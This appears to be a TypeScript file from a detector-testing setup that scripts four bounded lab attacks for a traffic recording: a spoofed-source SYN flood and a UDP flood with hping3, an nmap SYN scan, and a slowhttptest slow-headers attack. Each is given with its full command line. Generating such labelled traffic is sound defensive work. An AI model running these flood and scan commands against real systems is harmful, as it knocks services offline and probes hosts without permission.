/** The attacks of the recording: real tools, bounded in count and rate, from namespaces to namespaces. */
import { HOSTS, runOn, type Host } from './hosts.js'

export type Attack = {
  readonly name: string
  /** Names of the detector: `attack` and `threat_type` of the payload. */
  readonly attack: string
  readonly threatType: string
  readonly target: Host
  /** Addresses or a network, as they appear in the packets. */
  readonly sources: readonly string[]
  /** Seconds after the start of the recording. */
  readonly atSeconds: number
  readonly command: string
  readonly run: () => Promise<void>
}

const SPOOFED_HOSTS = 60
const { web, dns, mallory, trudy } = HOSTS

const synFlood = (source: string): string[] => ['hping3', '-q', '-S', '-p', '80', '-a', source, '-c', '60', '-i', 'u50000', web.address]
const udpFlood = ['hping3', '-q', '--udp', '-p', '9', '-d', '32', '-c', '3000', '-i', 'u1000', dns.address]
const scan = ['nmap', '-sS', '-Pn', '-n', '-T4', '--top-ports', '1000', web.address]
const slow = ['slowhttptest', '-H', '-c', '120', '-r', '40', '-i', '4', '-l', '20', '-v', '0', '-u', `http://${web.address}/`]

export const ATTACKS: readonly Attack[] = [
  {
    name: 'SYN flood from many spoofed sources', attack: 'syn_flood', threatType: 'ddos', target: web, sources: ['10.66.1.0/24'], atSeconds: 6,
    command: `${synFlood('10.66.1.N').join(' ')}   # N = 1..${SPOOFED_HOSTS} at once`,
    run: async () => {
      await Promise.all(Array.from({ length: SPOOFED_HOSTS }, (_, i) => runOn(mallory, synFlood(`10.66.1.${i + 1}`))))
    },
  },
  {
    name: 'port scan', attack: 'port_scan', threatType: 'network_intrusion', target: web, sources: [trudy.address], atSeconds: 15,
    command: scan.join(' '), run: () => runOn(trudy, scan),
  },
  {
    name: 'UDP flood', attack: 'udp_flood', threatType: 'dos', target: dns, sources: [mallory.address], atSeconds: 22,
    command: udpFlood.join(' '), run: () => runOn(mallory, udpFlood),
  },
  {
    name: 'slow HTTP headers', attack: 'slow_http', threatType: 'dos', target: web, sources: [trudy.address], atSeconds: 29,
    command: slow.join(' '), run: () => runOn(trudy, slow),
  },
]
